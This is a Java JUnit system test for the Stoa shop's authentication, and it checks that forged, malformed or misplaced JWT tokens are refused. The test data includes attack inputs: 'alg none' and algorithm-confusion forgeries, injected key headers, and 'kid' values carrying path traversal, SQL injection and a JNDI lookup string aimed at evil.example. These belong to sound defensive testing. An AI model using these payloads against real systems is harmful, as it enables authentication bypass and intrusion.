package stoa.systemtests;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static stoa.systemtests.harness.Stoa.ACCOUNTS;
import static stoa.systemtests.harness.Stoa.CARTS;
import static stoa.systemtests.harness.Stoa.CATALOG;
import static stoa.systemtests.harness.Stoa.ORDERS;
import static stoa.systemtests.shop.Forgery.base64;

import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.nio.charset.StandardCharsets;
import java.security.interfaces.RSAPublicKey;
import java.time.Instant;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.UUID;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Named;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import stoa.systemtests.harness.Call;
import stoa.systemtests.harness.Stoa;
import stoa.systemtests.harness.SystemTest;
import stoa.systemtests.shop.Forgery;
import stoa.systemtests.shop.Shop;

/** What is made to look like a token of an administrator opens nothing, in any context, and changes nothing. */
@SystemTest
class TokenAbuseST {

    private static final String MARK = "abuse-" + UUID.randomUUID();
    private static final long NOW = Instant.now().getEpochSecond();

    private static Forgery forgery;

    private final Stoa stoa = Stoa.shared();

    @BeforeAll
    static void theGoodTokenIsGood() {
        forgery = new Forgery(Stoa.shared());
        for (var path : List.of(ORDERS + "?limit=1", ACCOUNTS + "/api-keys", CATALOG + "/products?limit=1")) {
            Stoa.shared().get(path).bearer(forgery.good()).send().expect(200);
            Stoa.shared().get(path).bearer(forgery.claiming(claims -> { })).send().expect(200);
        }
    }

    @AfterAll
    static void nothingHasChanged() {
        var keys = Stoa.shared().get(ACCOUNTS + "/api-keys?limit=100").bearer(forgery.good()).send().expect(200);
        assertTrue(!keys.text().contains(MARK) && !keys.json().has("next"), keys::toString);
    }

    @ParameterizedTest(name = "{index} {0}")
    @MethodSource({"algorithms", "keys", "claims", "forms", "otherCredentials"})
    void isRefused(String token) {
        refused("Bearer " + token);
    }

    @ParameterizedTest(name = "{index} {0}")
    @MethodSource("schemes")
    void isNoBearer(String authorization) {
        refused(authorization);
    }

    private void refused(String authorization) {
        for (var call : List.of(stoa.get(ORDERS + "?limit=1"), stoa.get(CATALOG + "/products?limit=1"), stoa.get(ACCOUNTS + "/me/sessions"),
                stoa.post(CARTS).json(Map.of()), stoa.post(ACCOUNTS + "/api-keys").json(Map.of("name", MARK, "scopes", List.of("orders:pay"))))) {
            call.header("Authorization", authorization).send().expectProblem(401, "unauthenticated");
        }
    }

    @Test
    void oneCredentialIsEnough() {
        var bad = forgery.byStranger(header -> { });
        for (var pair : List.of(List.of(forgery.good(), bad), List.of(bad, forgery.good()), List.of(forgery.good(), forgery.good()))) {
            change().bearer(pair.get(0)).also("Authorization", "Bearer " + pair.get(1)).send().expectProblem(401, "unauthenticated");
        }
    }

    @Test
    void aTokenStandsInTheHeaderOnly() {
        assertEquals(401, stoa.post(ACCOUNTS + "/api-keys?access_token=" + forgery.good()).json(Map.of("name", MARK)).send().status());
        var form = stoa.post(ACCOUNTS + "/api-keys").body("application/x-www-form-urlencoded", "access_token=" + forgery.good()).send();
        assertTrue(form.status() == 401 || form.status() == 415, form::toString);
        for (var header : List.of("Proxy-Authorization", "X-Authorization", "Access-Token", "Service-Token", "Cart-Token", "Order-Token")) {
            change().header(header, "Bearer " + forgery.good()).send().expectProblem(401, "unauthenticated");
        }
        for (var cookie : List.of("stoa-access", "Bearer", "LtpaToken2", "JSESSIONID", "__host-stoa-access", "__Host-stoa-refresh")) {
            change().header("Cookie", cookie + "=" + forgery.good()).header("Sec-Fetch-Site", "same-origin").send().expectProblem(401, "unauthenticated");
        }
    }

    @ParameterizedTest(name = "{index} {0}")
    @MethodSource({"algorithms", "keys", "claims"})
    void isRefusedAsACookieToo(String token) {
        change().header("Cookie", "__Host-stoa-access=" + token).header("Sec-Fetch-Site", "same-origin").send().expectProblem(401, "unauthenticated");
    }

    @Test
    void whoIsNobodyToPeopleIsNobodyToContextsAndTheOtherWayRound() {
        var internal = CATALOG + "/internal/variants";
        for (var token : List.of(forgery.good(), forgery.serviceToken("cart"), forgery.serviceToken("stoa"), forgery.unsigned(header -> header.put("alg", "none")),
                "Bearer " + forgery.serviceToken("catalog"))) {
            stoa.post(internal).json("{}").header("Service-Token", token).send().expectProblem(401, "unauthenticated");
        }
        assertTrue(stoa.post(internal).json("{}").header("Service-Token", forgery.serviceToken("catalog")).send().status() != 401);
        change().header("Service-Token", forgery.serviceToken("account")).send().expectProblem(401, "unauthenticated");
    }

    private Call change() {
        return stoa.post(ACCOUNTS + "/api-keys").json(Map.of("name", MARK, "scopes", List.of("orders:pay")));
    }

    static Stream<Named<String>> algorithms() {
        var cases = new TreeMap<String, String>();
        for (var none : List.of("none", "None", "NONE", "nOnE", "")) {
            cases.put("algorithm '" + none + "' without a signature", forgery.unsigned(header -> header.put("alg", none)));
            cases.put("algorithm '" + none + "' with the good one's signature", forgery.unsigned(header -> header.put("alg", none)) + forgery.part(2));
        }
        cases.put("no algorithm", forgery.headed(header -> header.remove("alg")));
        cases.put("algorithm null", forgery.headed(header -> header.putNull("alg")));
        cases.put("HMAC by the public key in PEM", forgery.hmac(header -> { }, publicPem().getBytes(StandardCharsets.US_ASCII)));
        cases.put("HMAC by the public key in DER", forgery.hmac(header -> { }, forgery.publicKey().getEncoded()));
        cases.put("HMAC by the key document", forgery.hmac(header -> { }, forgery.read("keys/jwks.json").getBytes(StandardCharsets.UTF_8)));
        cases.put("HMAC by a zero", forgery.hmac(header -> { }, new byte[1]));
        cases.put("HMAC by the services' secret", forgery.hmac(header -> { }, forgery.read("secrets/stoa.service.secret").getBytes(StandardCharsets.UTF_8)));
        cases.put("RS384 by the right key", forgery.signedWith("RS384", "SHA384withRSA"));
        cases.put("RS512 by the right key", forgery.signedWith("RS512", "SHA512withRSA"));
        cases.put("RS512 told, RS256 done", forgery.signedWith("RS512", "SHA256withRSA"));
        cases.put("RS256 told, SHA-1 done", forgery.signedWith("RS256", "SHA1withRSA"));
        cases.put("ES256 by a stranger's curve", forgery.byStrangersCurve());
        return named(cases);
    }

    static Stream<Named<String>> keys() {
        var cases = new TreeMap<String, String>();
        cases.put("a stranger's key by our key's name", forgery.byStranger(header -> { }));
        for (var kid : List.of("unknown", "../../../../dev/null", "/proc/self/environ", "' OR '1'='1", "'; DROP TABLE login; --",
                "https://evil.example/jwks.json", "file:///etc/passwd", "development\u0000", "DEVELOPMENT", "", "${jndi:ldap://evil.example/a}")) {
            cases.put("a stranger's key named '" + kid.replace("\u0000", "<NUL>") + "'", forgery.byStranger(header -> header.put("kid", kid)));
        }
        cases.put("a stranger's key without a name", forgery.byStranger(header -> header.remove("kid")));
        cases.put("HMAC by nothing, named as a file that is empty", forgery.hmac(header -> header.put("kid", "../../../../dev/null"), new byte[1]));
        cases.put("the right key by another name", forgery.headed(header -> header.put("kid", "unknown")));
        cases.put("a stranger's key brought along", forgery.byStranger(header -> header.set("jwk", strangersKey())));
        cases.put("a stranger's key at an address", forgery.byStranger(header -> header.put("jku", "http://localhost:1/jwks.json")));
        cases.put("a stranger's certificate at an address", forgery.byStranger(header -> header.put("x5u", "http://localhost:1/x.pem")));
        cases.put("a stranger's certificate brought along", forgery.byStranger(header -> header.putArray("x5c")
                .add(Base64.getEncoder().encodeToString(forgery.strangers().getPublic().getEncoded()))));
        cases.put("a stranger's key by a thumbprint", forgery.byStranger(header -> header.put("x5t", "x")));
        cases.put("an extension that must be understood", forgery.headed(header -> header.put("zz", 1).putArray("crit").add("zz")));
        return named(cases);
    }

    static Stream<Named<String>> claims() {
        var cases = new TreeMap<String, String>();
        for (var claim : List.of("iss", "aud", "sub", "exp")) {
            cases.put("without " + claim, forgery.claiming(claims -> claims.remove(claim)));
            cases.put(claim + " null", forgery.claiming(claims -> claims.putNull(claim)));
            cases.put(claim + " empty", forgery.claiming(claims -> claims.put(claim, "")));
            cases.put(claim + " of another kind", forgery.claiming(claims -> claims.putObject(claim).put("stoa", NOW + 900)));
        }
        for (var issuer : List.of("elsewhere", "Stoa", "stoa ", "stoa-services", "https://stoa", "stoa\u0000")) {
            cases.put("issuer '" + issuer.replace("\u0000", "<NUL>") + "'", forgery.claiming(claims -> claims.put("iss", issuer)));
        }
        for (var audience : List.of("elsewhere", "STOA", "account", "order")) {
            cases.put("for " + audience, forgery.claiming(claims -> claims.put("aud", audience)));
        }
        cases.put("for several others", forgery.claiming(claims -> claims.putArray("aud").add("a").add("b")));
        cases.put("over for a minute", forgery.claiming(claims -> claims.put("iat", NOW - 960).put("exp", NOW - 60)));
        cases.put("over for years", forgery.claiming(claims -> claims.put("iat", 1).put("exp", 901)));
        cases.put("over before it began", forgery.claiming(claims -> claims.put("exp", NOW - 3600)));
        cases.put("an end of the past in milliseconds of the future", forgery.claiming(claims -> claims.put("exp", -NOW * 1000)));
        cases.put("good only later", forgery.claiming(claims -> claims.put("nbf", NOW + 3600)));
        cases.put("made in the future", forgery.claiming(claims -> claims.put("iat", NOW + 3600).put("exp", NOW + 4500)));
        return named(cases);
    }

    static Stream<Named<String>> forms() {
        var header = forgery.part(0);
        var claims = forgery.part(1);
        var signature = forgery.part(2);
        var cases = new TreeMap<String, String>();
        cases.put("nothing", "");
        cases.put("dots", "..");
        cases.put("four dots", "....");
        cases.put("header only", header);
        cases.put("claims only", claims);
        cases.put("no signature", header + "." + claims);
        cases.put("an empty signature", header + "." + claims + ".");
        cases.put("no header", "." + claims + "." + signature);
        cases.put("no claims", header + ".." + signature);
        cases.put("half a signature", header + "." + claims + "." + signature.substring(0, signature.length() / 2));
        cases.put("a signature of zeros", header + "." + claims + "." + base64(new byte[256]));
        cases.put("a signature one bit off", header + "." + claims + "." + (signature.charAt(0) == 'A' ? 'B' : 'A') + signature.substring(1));
        cases.put("another token's signature", header + "." + claims + "." + forgery.claiming(other -> other.put("jti", "other")).split("\\.")[2]);
        cases.put("more rights, the old signature", header + "." + base64(forgery.node(1).put("sub", "somebody").toString().getBytes(StandardCharsets.UTF_8))
                + "." + signature);
        cases.put("doubled dots", header + ".." + claims + "." + signature);
        cases.put("a fourth part", forgery.good() + ".x");
        cases.put("five parts, as if encrypted", header + ".." + claims + "." + signature + ".x");
        cases.put("the good one twice", forgery.good() + forgery.good());
        cases.put("the good one upside down", signature + "." + claims + "." + header);
        cases.put("in quotes", "\"" + forgery.good() + "\"");
        cases.put("a comma after it", forgery.good() + ",");
        cases.put("more after a space", forgery.good() + " x");
        cases.put("claims that are no JSON", forgery.rightlySigned(forgery.node(0).toString(), "iss=stoa"));
        cases.put("claims that are a list", forgery.rightlySigned(forgery.node(0).toString(), "[]"));
        cases.put("a header that is no JSON", forgery.rightlySigned("alg=RS256", forgery.node(1).toString()));
        cases.put("huge nonsense", "x".repeat(12_000));
        cases.put("huge parts", ("x".repeat(4_000) + ".").repeat(3));
        cases.put("as a JSON document", "{\"payload\":\"" + claims + "\",\"protected\":\"" + header + "\",\"signature\":\"" + signature + "\"}");
        return named(cases);
    }

    static Stream<Named<String>> otherCredentials() {
        var stoa = Stoa.shared();
        var key = stoa.post(ACCOUNTS + "/api-keys").bearer(forgery.good()).json(Map.of("name", "Told apart", "scopes", List.of("orders:read"))).send()
                .expect(201).json();
        var cases = new TreeMap<String, String>();
        cases.put("a key's secret", key.path("clientSecret").asText());
        cases.put("a key's id", key.path("clientId").asText());
        cases.put("a cart's token", Shop.shared().aGuest().withCart().token());
        cases.put("a refresh token", base64(new byte[32]));
        for (var context : List.of("catalog", "cart", "order", "account", "stoa")) {
            cases.put("a service's token for " + context, forgery.serviceToken(context));
        }
        return named(cases);
    }

    static Stream<Named<String>> schemes() {
        var good = forgery.good();
        var cases = new TreeMap<String, String>();
        for (var scheme : List.of("bearer ", "BEARER ", "bEaReR ", "", "Bearer", "Bearer:", "Bearer=", "Bearer\t", "Basic ", "Token ", "JWT ", "Negotiate ",
                "Bearer Bearer ", "Basic Bearer ", "Bearer , ")) {
            cases.put("'" + scheme.replace("\t", "<TAB>") + "'", scheme + good);
        }
        cases.put("twice in one header", "Bearer " + good + ", Bearer " + good);
        cases.put("a list of two kinds", "Basic eDp5, Bearer " + good);
        cases.put("as a parameter", "Bearer token=\"" + good + "\"");
        return named(cases);
    }

    private static Stream<Named<String>> named(Map<String, String> cases) {
        return cases.entrySet().stream().map(one -> Named.of(one.getKey(), one.getValue()));
    }

    private static ObjectNode strangersKey() {
        var key = (RSAPublicKey) forgery.strangers().getPublic();
        return JsonNodeFactory.instance.objectNode().put("kty", "RSA").put("kid", "development")
                .put("n", base64(key.getModulus().toByteArray())).put("e", base64(key.getPublicExponent().toByteArray()));
    }

    private static String publicPem() {
        return "-----BEGIN PUBLIC KEY-----\n" + Base64.getMimeEncoder(64, "\n".getBytes(StandardCharsets.US_ASCII))
                .encodeToString(forgery.publicKey().getEncoded()) + "\n-----END PUBLIC KEY-----\n";
    }
}
